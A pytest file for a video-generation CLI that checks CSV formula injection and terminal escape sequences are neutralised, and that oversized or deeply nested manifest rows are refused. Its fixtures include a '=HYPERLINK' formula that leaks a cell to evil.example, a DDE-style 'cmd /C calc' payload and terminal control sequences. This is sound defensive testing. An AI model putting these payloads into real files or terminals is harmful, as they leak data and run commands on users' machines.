"""Issue 19, items 9 and 10: what a manifest or the service names reaches a spreadsheet and a
terminal as plain text (no formula cells, no escape sequences), and a hostile manifest (a
number past float's range, a line nested 100,000 deep) is a clear error naming its row."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from cli_helpers import run
from pack_loader import pack_module

cli = pack_module("__main__")
run_mod = pack_module("cli.run")
ledger_mod = pack_module("core.ledger")

SMALL = ["--width", "256", "--height", "256", "--num-frames", "9", "--fps", "8"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4"]
ESCAPES = "job-\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"


@pytest.fixture
def folders(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("SEGMIND_LTX2_HOME", str(tmp_path / "user"))
    monkeypatch.setenv("SEGMIND_LTX2_OUTPUT", str(tmp_path / "output"))
    monkeypatch.delenv("SEGMIND_API_KEY", raising=False)
    return tmp_path



def _no_controls(text: str) -> bool:
    return not any(ch in text for ch in ("\x1b", "\x07", "\x9b", "\u202e"))


# --------------------------------------------------------------------------- item 9: output injection


def test_manifest_names_like_formulas_are_plain_text_in_results_csv(folders, capsys, fault_row):
    manifest = folders / "clips.csv"
    with open(manifest, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["prompt", "name", "seed"])
        for n, name in enumerate([*FORMULAS, ESCAPES], 1):
            writer.writerow([f"clip {n}", name, n])
    results = folders / "results.csv"
    code, out, err = run(capsys, "--t2v", "--manifest", str(manifest), *SMALL, "--results", str(results))
    assert code == 0, err
    with open(results, newline="", encoding="utf-8") as fh:
        names = [row["name"] for row in csv.DictReader(fh)]
    assert names[:4] == ["'" + f for f in FORMULAS]  # OWASP: a leading quote makes the cell text
    assert all(not n.startswith(("=", "+", "-", "@")) for n in names)
    assert _no_controls(out) and _no_controls(err)  # the table and the milestone lines
    assert "owned" in out  # what the name says is still shown, only its control characters go
    fault_row("Manifest names like =HYPERLINK(...), @SUM(...), +1, -3 and one with ESC ]0;...BEL ESC [2J",
              "command line: results.csv, the run's table",
              "cells start with a quote (text, not a formula); control characters are dropped from what is printed")


def test_a_request_id_with_escape_sequences_never_reaches_the_terminal_raw(folders, capsys, fault_row):
    hostile = f'=HYPERLINK("x"){ESCAPES}'
    ledger_mod.Ledger(folders / "user").record({"request_id": hostile, "fingerprint": "c3" * 32, "cost": 0.455,
                                                "estimate": 0.455, "prompt": f"a fox {ESCAPES}", "width": 256,
                                                "height": 256, "num_frames": 9, "fps": 8, "seed": 1})
    code, out, err = run(capsys, "jobs")
    assert code == 0, err
    assert _no_controls(out) and "owned" in out
    result = {"row": 1, "name": "a", "status": "paid", "cost": 0.455, "request_id": hostile, "video": None,
              "error": f"Segmind said {ESCAPES}"}
    assert _no_controls(run_mod.table([result]))
    path = run_mod.write_results(folders / "r.csv", [result])
    with open(path, newline="", encoding="utf-8") as fh:
        (row,) = csv.DictReader(fh)
    assert row["request_id"].startswith("'=")
    fault_row("A request id `=HYPERLINK(...)` with ESC ]0;...BEL ESC [2J (service or ledger)",
              "command line: `jobs`, the run's table, results.csv",
              "printed without its control characters; its results.csv cell starts with a quote")


# --------------------------------------------------------------------------- item 10: hostile manifests


@pytest.mark.parametrize("name,seed", [("seed.csv", "1e400"), ("seed-inf.csv", "inf"), ("seed.jsonl", "1e400"),
                                       ("seed-inf.jsonl", '"inf"')])
def test_a_number_past_floats_range_is_a_row_error(folders, capsys, fault_row, name, seed):
    kind = name.rsplit(".", 1)[1]
    text = f"prompt,seed\nwaves,{seed}\n" if kind == "csv" else f'{{"prompt": "waves", "seed": {seed}}}\n'
    shown = f"{name} line {2 if kind == 'csv' else 1}"
    manifest = folders / name
    manifest.write_text(text, encoding="utf-8")
    code, out, err = run(capsys, "--t2v", "--manifest", str(manifest), "--dry-run")
    assert code == 2 and "Traceback" not in err
    assert shown in err and "seed" in err and "not a finite number" in err
    fault_row(f"Manifest seed {seed} ({kind.upper()})", "command line: --manifest",
              f"refused before anything is sent: `{shown}: column seed is ..., not a finite number`")


def test_a_jsonl_line_nested_100000_deep_is_a_row_error(folders, capsys, fault_row):
    manifest = folders / "deep.jsonl"
    manifest.write_text('{"prompt": "ok"}\n{"prompt": "x", "seed": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
                        encoding="utf-8")
    code, out, err = run(capsys, "--t2v", "--manifest", str(manifest), "--dry-run")
    assert code == 2 and "Traceback" not in err
    assert "deep.jsonl line 2" in err and "nested too deeply" in err
    fault_row("A JSONL manifest line nested 100,000 deep", "command line: --manifest",
              "refused before anything is sent: `deep.jsonl line 2 is nested too deeply to be a clip`")
